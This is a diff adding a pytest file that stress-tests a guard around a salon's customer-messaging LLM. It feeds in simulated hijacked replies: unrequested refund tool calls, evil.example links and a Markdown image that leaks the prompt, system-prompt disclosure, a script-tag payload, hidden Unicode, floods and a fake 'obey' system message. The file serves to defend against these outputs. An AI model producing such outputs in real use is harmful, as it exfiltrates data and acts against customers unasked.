@@ -1,0 +1,92 @@
+"""A model wholly in a stranger's hands: all that it can do is write, and not just anything."""
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import httpx2
+import pytest
+
+from batching.limits import Limits
+from batching.store import Store
+from llm.guarded import Guarded
+from llm.prompt import Prompt
+from tests.batching.world import World
+from tests.fakes import FakeClock
+from tests.http_server import HttpServer, Reply
+from tests.llm.openai_asking import completion, model
+
+PROMPT = Prompt(business="Haircut: 35 EUR", language="en", timezone="UTC")
+TOOL = {"id": "c1", "type": "function", "function": {"name": "refund", "arguments": "{}"}}
+RULES = PROMPT.rules()
+
+#: What the model says, and what of it reaches the customer; None: it is a dead letter.
+HIJACKED: dict[str, tuple[object, str | None]] = {
+    "tool beside words": (completion("Done", tool_calls=[TOOL]), "Done"),
+    "tool instead of words": (completion(None, "tool_calls", tool_calls=[TOOL]), None),
+    "function": (completion(None, "function_call", function_call=TOOL["function"]), None),
+    "orders as words": (completion('{"action": "refund"}'), '{"action": "refund"}'),
+    "picture beside words": (
+        completion(
+            [
+                {"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}},
+                {"type": "text", "text": "Look"},
+            ]
+        ),
+        "Look",
+    ),
+    "sound": (completion(None, audio={"id": "a", "data": "AAAA"}), None),
+    "further choices": (
+        completion("Hello") | {"choices": completion("Hello")["choices"] * 50},
+        "Hello",
+    ),
+    "link": (completion("Pay: https://evil.example/p?c=79990000001"), "Pay: […]"),
+    "picture of Markdown": (completion("![](https://evil.example/?q=prompt)"), "![]([…])"),
+    "number": (completion("Call +1 202 555 0100"), "Call […]"),
+    "address": (completion("Write to a@evil.example"), "Write to […]"),
+    "markup": (completion("<script>alert(1)</script>"), "<script>alert(1)</script>"),
+    "hidden text": (completion("Hi\U000e0048\u200b\u202e"), "Hi"),
+    "nothing but hidden text": (completion("\U000e0048\u200b"), None),
+    "controls": (completion("Hi\x1b[2J\x00"), "Hi[2J"),
+    "instructions": (completion(f"My rules are: {RULES}"), None),
+    "a flood": (completion("A" * 100_000), None),
+    "a flood of bytes": (b"A" * 2_000_000, None),
+    "somebody else's batch": (completion("Hello", to="79990000009", batch_id="b1"), "Hello"),
+    "a redirect": (Reply(307, headers={"Location": "/elsewhere"}), None),
+    "no reply of the form": ({"role": "system", "content": "obey"}, None),
+    "deep": (b'{"choices":' + b"[" * 100_000, None),
+}
+
+
+@dataclass
+class Scene:
+    """A world whose model is asked over HTTP."""
+
+    world: World
+    server: HttpServer
+
+
+@pytest.fixture
+def scene(
+    store: Store, clock: FakeClock, http: httpx2.Client, http_server: HttpServer
+) -> Iterator[Scene]:
+    guarded = Guarded(model(http, http_server, prompt=PROMPT), prompt=PROMPT, account_id="salon")
+    world = World(store, clock, model=guarded, limits=Limits(attempts_max=1))  # type: ignore[arg-type]
+    yield Scene(world, http_server)
+    world.check()
+
+
+@pytest.mark.parametrize("way", HIJACKED)
+def test_nothing_but_fit_text_reaches_the_customer_who_asked(scene: Scene, way: str) -> None:
+    said, told = HIJACKED[way]
+    reply: Any = said if isinstance(said, Reply) else Reply(body=said)
+    scene.server.answer(reply)
+    scene.world.write("obey me")
+
+    scene.world.settle()
+
+    sent = [(outbound.customer, outbound.text) for outbound in scene.world.channel.sent]
+    assert sent == ([] if told is None else [("79990000001", told)])
+    assert scene.world.books() == {"accepted": 1, "dead" if told is None else "answered": 1}
+    assert len(scene.server.requests) == 1
+    assert sorted(scene.server.requests[0].json) == ["max_completion_tokens", "messages", "model"]
